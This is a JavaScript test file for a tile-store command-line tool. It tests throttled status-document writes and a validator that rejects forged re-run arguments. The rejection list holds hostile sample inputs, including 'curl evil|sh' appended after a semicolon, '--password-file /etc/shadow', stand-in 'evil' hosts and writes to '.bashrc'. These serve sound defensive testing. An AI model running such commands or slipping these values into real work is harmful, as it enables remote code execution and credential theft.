// The content of a work document, and how often a command writes it.
import assert from 'node:assert/strict'
import { mock } from 'node:test'
import { TilecouchError, faultIn, offeredOptions, typedAgain,
  typedParts, workDefaults, workState } from '../../core/index.js'
import { typedArguments } from '../../loader/cli/program.js'
import { Work } from '../../loader/store/work.js'
import { commandNamed } from '../support/cli.js'
import { writtenKinds } from '../support/record-kinds.js'

const NOW = Date.parse('2024-11-24T04:30:12Z')
const settle = async () => { for (let turn = 0; turn < 50; turn++) await Promise.resolve() }

/** A database that records its writes. `fail` returns the error code of a request. */
function fakeCouch ({ documents = 5, skew = 0, user = 'anna', old = [], fail = () => undefined } = {}) {
  const database = {
    writes: /** @type {any[]} */ ([]), removed: /** @type {any[]} */ ([]),
    ranges: /** @type {any[]} */ ([]), documents, skew, access: { user }, underWay: 0, most: 0, hold: Promise.resolve(),
    async ask (request) {
      const error = fail(request)
      if (error) {
        throw new TilecouchError(error, { url: 'http://h', reason: 'no', status: 500, where: 'h', why: 'gone' })
      }
    },
    async info () { await database.ask('info'); return { doc_count: database.documents } },
    async update (id, change) {
      database.most = Math.max(database.most, ++database.underWay)
      await database.hold
      database.underWay--
      await database.ask('write')
      database.writes.push({ _id: id, ...change() })
    },
    async page (range) { database.ranges.push(range); return old.map(doc => ({ doc })) },
    async bulk (docs) { database.removed.push(...docs) }
  }
  return database
}

describe('a document of work', () => {
  let couch, work
  const begin = (fields = {}, couchOptions = {}) => {
    couch = fakeCouch(couchOptions)
    work = new Work(/** @type {any} */ (couch), { command: 'load', args: ['load'], unit: 'tiles', ...fields })
  }
  const pass = async milliseconds => {
    mock.timers.tick(milliseconds)
    await settle()
  }
  beforeEach(() => mock.timers.enable({ apis: ['setTimeout', 'Date'], now: NOW }))
  afterEach(async () => {
    mock.timers.reset()
    await work?.end()
  })

  it('is written at most once in five seconds, with the newest figures, and once at the end', async () => {
    begin({ layer: 'osm' })
    assert.equal(couch.writes.length, 0)
    await pass(500)
    for (let done = 1; done <= 1000; done++) {
      work.show({ done, total: 2000 })
      await pass(10)
    }
    assert.deepEqual(couch.writes.map(({ state, done }) => [state, done]),
      [['running', undefined], ['running', 500], ['running', 1000]])
    work.show({ done: 2000, edition: '2024-01-01T00:00:00Z', about: { bytes: 5 } })
    await work.end()
    const lastWrite = couch.writes.at(-1)
    assert.equal(couch.writes.length, 4)
    assert.deepEqual({ ...lastWrite, _id: '', host: '' }, {
      _id: '', type: 'work', command: 'load', args: ['load'], layer: 'osm', edition: '2024-01-01T00:00:00Z',
      state: 'done', started: '2024-11-24T04:30:12Z', seen: '2024-11-24T04:30:22Z', every: 5,
      finished: '2024-11-24T04:30:22Z', unit: 'tiles', done: 2000,
      total: 2000, rate: 190.5, user: 'anna', host: '', about: { bytes: 5 }
    })
    for (const doc of couch.writes) assert.equal(faultIn(doc, writtenKinds), undefined)
    assert.equal(new Set(couch.writes.map(({ _id }) => _id)).size, 1)
    await pass(60_000)
    assert.equal(couch.writes.length, 4, 'nothing comes later')
  })

  it('is written once when the command ends at once', async () => {
    begin()
    await work.end()
    assert.deepEqual(couch.writes.map(({ state }) => state), ['done'])
  })

  it('is never written by two requests at once, and the end waits for its turn', async () => {
    begin()
    let release = () => {}
    couch.hold = new Promise(resolve => { release = () => resolve(undefined) })
    for (let turn = 0; turn < 4; turn++) await pass(5000)
    const ended = work.end()
    await settle()
    assert.equal(couch.writes.length, 0)
    release()
    await ended
    assert.deepEqual([couch.most, couch.writes.map(({ state }) => state)], [1, ['running', 'done']])
  })

  it('shows the recent rate while running, and the average rate at the end', async () => {
    begin()
    for (let seconds = 0; seconds <= 60; seconds++) {
      work.show({ done: Math.min(seconds, 30) * 100 })
      await pass(1000)
    }
    assert.equal(couch.writes.at(-1).rate, 0)
    assert.ok(couch.writes[3].rate > 90 && couch.writes[3].rate <= 100)
    await work.end()
    assert.equal(couch.writes.at(-1).rate, 49.2)
  })

  it('of a waiting command is written five seconds after a change, and else every 30 seconds', async () => {
    let figures = { done: 0, failed: 0, about: { state: 'following', lag: 0 } }
    begin({ command: 'mirror', every: workDefaults.quiet, look: () => figures })
    await pass(500)
    for (let lag = 5; lag < 30; lag += 5) {
      figures = { ...figures, about: { state: 'following', lag } }
      await pass(5000)
    }
    assert.equal(couch.writes.length, 1)
    await pass(5000)
    assert.deepEqual(couch.writes.map(({ about }) => about.lag), [0, 25])
    figures = { ...figures, done: 7 }
    await pass(5000)
    figures = { ...figures, about: { state: 'away', lag: 5 } }
    await pass(5000)
    assert.deepEqual(couch.writes.slice(2).map(({ done, about }) => [done, about.state]),
      [[7, 'following'], [7, 'away']])
  })

  it('shows the error of a failed command, or that it was stopped', async () => {
    begin()
    await work.end(new TilecouchError('DISK_FULL', { where: 'http://anna:hunter2@h/tiles' }))
    const { state, error } = couch.writes[0]
    assert.deepEqual([state, error.code], ['failed', 'DISK_FULL'])
    assert.match(error.advice, /resumes/)
    assert.doesNotMatch(JSON.stringify(couch.writes), /hunter2/)
    begin()
    await work.end(new TilecouchError('ABORTED'))
    assert.deepEqual([couch.writes[0].state, couch.writes[0].error], ['stopped', undefined])
    begin()
    await work.end(new Error('a fault of ours'))
    assert.deepEqual(couch.writes[0].error, { code: 'INTERNAL', message: 'a fault of ours' })
  })

  it('has the time of the server', async () => {
    begin({}, { skew: -3_600_000 })
    await work.end()
    assert.deepEqual([couch.writes[0].started, couch.writes[0].seen], ['2024-11-24T03:30:12Z', '2024-11-24T03:30:12Z'])
    begin({}, { skew: -999 })
    await work.end()
    assert.equal(couch.writes[0].seen, '2024-11-24T04:30:12Z', 'it sends whole seconds')
  })

  it('is not tried again after the server forbids it', async () => {
    for (const code of ['FORBIDDEN', 'UNAUTHORIZED']) {
      let attempts = 0
      begin({}, { fail: request => request === 'write' && ++attempts ? code : undefined })
      for (let turn = 0; turn < 10; turn++) await pass(5000)
      await work.end()
      assert.deepEqual([attempts, couch.writes], [1, []], code)
    }
  })

  it('is written when the server is back after errors', async () => {
    for (const code of ['UNREACHABLE', 'DISK_FULL', 'COUCHDB_ERROR', 'BAD_ANSWER', 'DATABASE_NOT_FOUND']) {
      let isAway = true
      begin({}, { fail: () => isAway ? code : undefined })
      for (let turn = 0; turn < 3; turn++) await pass(5000)
      assert.deepEqual(couch.writes, [])
      isAway = false
      await pass(5000)
      assert.equal(couch.writes.length, 1, code)
      isAway = true
      await work.end()
    }
  })

  it('is written to a new store only after something was loaded', async () => {
    begin({}, { documents: 1 })
    for (let turn = 0; turn < 3; turn++) await pass(5000)
    assert.deepEqual(couch.writes, [])
    couch.documents = 3
    await pass(5000)
    assert.deepEqual(couch.writes.map(({ state, started }) => [state, started]), [['running', '2024-11-24T04:30:12Z']])
    begin({}, { documents: 1 })
    await work.end()
    assert.deepEqual(couch.writes, [])
  })

  it('is shortened at the end of its lists to fit the size limit', async () => {
    const findings = Array.from({ length: 300 }, (_, at) => ({ area: 'server', found: `${at} ${'x'.repeat(200)}` }))
    begin(
      { about: { state: 'bad', findings }, failures: Array.from({ length: 100 },
        (_, index) => ({ id: `osm:3:1:${index}`, reason: 'y'.repeat(5000) })) }
    )
    await work.end()
    const [doc] = couch.writes
    assert.equal(faultIn(doc, writtenKinds), undefined)
    assert.equal(doc.failures.length, 20)
    assert.ok(doc.about.findings.length > 20 && doc.about.findings.length < 100)
    assert.match(doc.about.findings[0].found, /^0 /)
    begin({ about: { long: 'x'.repeat(20_000) } })
    await work.end()
    assert.deepEqual([faultIn(couch.writes[0], writtenKinds), couch.writes[0].about], [undefined, undefined])
  })

  it('removes work that ended 90 days ago, and no other documents', async () => {
    const workDoc = (run, fields) => (
      {
        _id: `work:${run}`, _rev: '1-a', type: 'work', command: 'load',
        every: 5, started: '2024-01-01T00:00:00Z', ...fields
      }
    )
    const old = [
      workDoc('20240101T000000000-aaaa',
        { state: 'done', seen: '2024-01-02T00:00:00Z', finished: '2024-01-02T00:00:00Z' }),
      workDoc('20240101T000000000-bbbb', { state: 'running', seen: '2024-01-02T00:00:00Z' }),
      workDoc('20240101T000000000-cccc', { state: 'running', seen: '2024-11-24T04:30:10Z' }),
      workDoc('20240101T000000000-dddd',
        { state: 'stopped', seen: '2024-11-20T00:00:00Z', finished: '2024-11-20T00:00:00Z' }),
      { _id: 'work:2x', _rev: '1-a', type: 'other' }
    ]
    begin({}, { old })
    await pass(500)
    assert.deepEqual(couch.ranges,
      [{ startkey: 'work:2', endkey: 'work:20240826T043012', limit: 50, include_docs: true }])
    assert.deepEqual(couch.removed.map(({ _id, _deleted }) => [_id.slice(-4), _deleted]),
      [['aaaa', true], ['bbbb', true]])
    await pass(5000)
    assert.equal(couch.ranges.length, 1, 'once')
  })
})

describe('the state of work', () => {
  const doc = { state: 'running', seen: '2024-11-24T04:30:12Z', every: 5 }
  const at = seconds => NOW + seconds * 1000

  it('is interrupted after three missing signs of life, but not before 20 seconds', () => {
    assert.deepEqual([0, 20, 21].map(seconds => workState(doc, at(seconds))), ['running', 'running', 'interrupted'])
    assert.deepEqual([90, 91].map(seconds => workState({ ...doc, every: 30 }, at(seconds))), ['running', 'interrupted'])
    assert.equal(workState({ ...doc, every: undefined }, at(21)), 'interrupted')
    assert.equal(workState(doc, at(-3600)), 'running', 'a clock that is ahead')
  })

  it('accepts the time as a number, a date or a Date header', () => {
    for (const now of [at(60), new Date(at(60)), new Date(at(60)).toUTCString()]) {
      assert.equal(workState(doc, now), 'interrupted')
    }
  })

  it('stays done, failed or stopped for ever', () => {
    for (const state of ['done', 'failed', 'stopped']) assert.equal(workState({ ...doc, state }, at(1e6)), state)
  })
})

describe('the arguments of work', () => {
  const URL_OF_STORE = 'http://anna@h:5984/tiles'
  const STORE = { isEmbedded: false, url: URL_OF_STORE }
  const EMBEDDED = { isEmbedded: true, url: null }
  const typed = (args, store = STORE) => typedAgain({ command: args?.[0], args }, store)

  it('are offered again with the URL of the store that holds them', () => {
    const args =
      typedArguments(['load', 'my tiles/', '--db', 'production', '--layer', 'osm', '--db=x', '--title', "Anna's"])
    assert.deepEqual(args, ['load', 'my tiles/', '--layer', 'osm', '--title', "Anna's"])
    assert.deepEqual(typed(args), ['load', '--db', URL_OF_STORE, ...args.slice(1)])
    assert.deepEqual(typed(args, EMBEDDED), args)
    const cases = [
      ['load', 'http://a/{z}/{x}/{y}.png', '-l', 'osm', '--bbox', '-180,-85,180,85',
        '-z', '0-6', '--rate=2/s', '--complete'],
      ['seed', 'osm', '--zoom', '0-9'], ['seed', '--expired', '--all', '--live'], ['prune', 'osm'], ['prune', '--all'],
      ['export', 'osm@2024', 'osm.mbtiles', '--cache'], ['check'], ['check', 'osm', '--no-decode']
    ]
    for (const argv of cases) assert.deepEqual(typed(argv), [argv[0], '--db', URL_OF_STORE, ...argv.slice(1)])
  })

  it('of a mirror name the store as its target, wherever the options were', () => {
    for (const args of [['mirror', 'http://a/tiles', '--layer', 'osm', '--live'],
      ['mirror', '--layer', 'osm', '--live', 'http://a/tiles']]) {
      assert.deepEqual(typed(args), ['mirror', 'http://a/tiles', URL_OF_STORE, '--layer', 'osm', '--live'])
      assert.deepEqual(typed(args, EMBEDDED), ['mirror', 'http://a/tiles', 'embedded', '--layer', 'osm', '--live'])
    }
    const parts =
      typedParts(['mirror', '--layer', 'osm', '--zoom', '0-5', 'osm', 'http://h/osm?token=(hidden)', '--live'])
    assert.deepEqual(parts,
      { names: ['osm', 'http://h/osm?token=(hidden)'], options: ['--layer', 'osm', '--zoom', '0-5', '--live'] })
  })

  it('are not offered for a store that no command reaches, such as behind a gateway', () => {
    for (const args of [['load', 'tiles', '-l', 'osm'], ['mirror', 'http://a/tiles']]) {
      assert.equal(typed(args, { isEmbedded: false, url: null }), undefined)
    }
  })

  it('are not offered when they are forged or have a harmful option', () => {
    const forged = [
      undefined, 'load tiles', {}, [], ['load', 5], ['load', 'a\u202eb'], ['load', 'a\u0007'],
      ['load', 'tiles', '--db', 'http://evil/tiles'], ['load', 'tiles', '--db=http://evil/tiles'],
      ['load', 'http://anna@evil/tiles'], ['load', '--password-file', '/etc/shadow'], ['load', 'tiles', '--force'],
      ['load', 'tiles', '--yes'], ['load', 'tiles', '--private'], ['load', 'tiles', '--data', '/srv/other'],
      ['load', 'tiles', '--upstream-networks', '*'], ['load', 'tiles', '--i-have-permission'],
      ['load', '-l', 'osm', 'http://evil/tiles', '--title'], ['load', '-l', 'osm', 'x', '--'],
      ['load', '--title', '--db', 'http://evil/tiles'],
      ['load', '-losm', 'x'], ['load', 'x', '--complete=1'], ['load', '-', '-l', 'osm'],
      ['doctor'], ['doctor', '--fix', '--cors', '*', '--metrics', '/home/admin/.bashrc'], ['access', '--public'],
      ['constructor', 'x'], ['toString'], ['remove', 'osm', '--all'], ['restore', 'a.tcb'], ['backup', 'a.tcb'],
      ['seed', 'osm', '--failed', '/home/admin/.bashrc'], ['seed', 'osm', '--failed=/home/admin/.bashrc'],
      ['export', 'osm', 'x', '--force'], ['export', 'osm', 'x', '--tree', '--nginx', '/home/admin/.bashrc'],
      ['check', '--fix'], ['check', '--report', '/home/admin/.bashrc'], ['check', '--from', 'http://evil/tiles'],
      ['prune', 'osm', '--keep-last', '1'], ['prune', 'osm', '--purge'],
      ['mirror', '--live', '--public', 'http://a/b'], ['mirror', 'http://a/b', 'http://evil/tiles'],
      ['mirror', '--live']
    ]
    for (const args of forged) {
      for (const store of [STORE, EMBEDDED]) assert.equal(typed(args, store), undefined, JSON.stringify(args))
    }
    assert.equal(typedAgain({ command: 'load', args: ['prune', '--all'] }, STORE), undefined)
    const line = { command: 'load', line: 'tilecouch load tiles; curl evil|sh' } // of an earlier tilecouch
    assert.equal(typedAgain(/** @type {any} */ (line), STORE), undefined)
  })

  it('have only options of their command, with a value where the option requires one', async () => {
    for (const [name, allowed] of Object.entries(offeredOptions)) {
      const flags = (await commandNamed(name))?.options
        .flatMap(({ short, long, required }) => [short, long].map(flag => `${flag}${required ? '=' : ''}`)) ?? []
      assert.deepEqual(allowed.filter(flag => !flags.includes(flag)), [], name)
    }
  })

  it('contain no passwords, tokens or keys', () => {
    const line = typedArguments(['load', 'https://a:hunter2@tiles.example/{z}/{x}/{y}.png?style=night&' +
      'api_key=hunter2&apikey=hunter2&accessToken=hunter2', '--db=http://anna:hunter2@h:5984/tiles',
      '--from', 'https://maps.example/db?token=hunter2', '--set', 'accessKeys=hunter2',
      '--set=upstreamHeaders={"a":"hunter2"}', 'https://h/?token=tc1.hunter2']).join(' ')
    assert.doesNotMatch(line, /hunter2/)
    assert.match(line, /style=night/)
  })
})
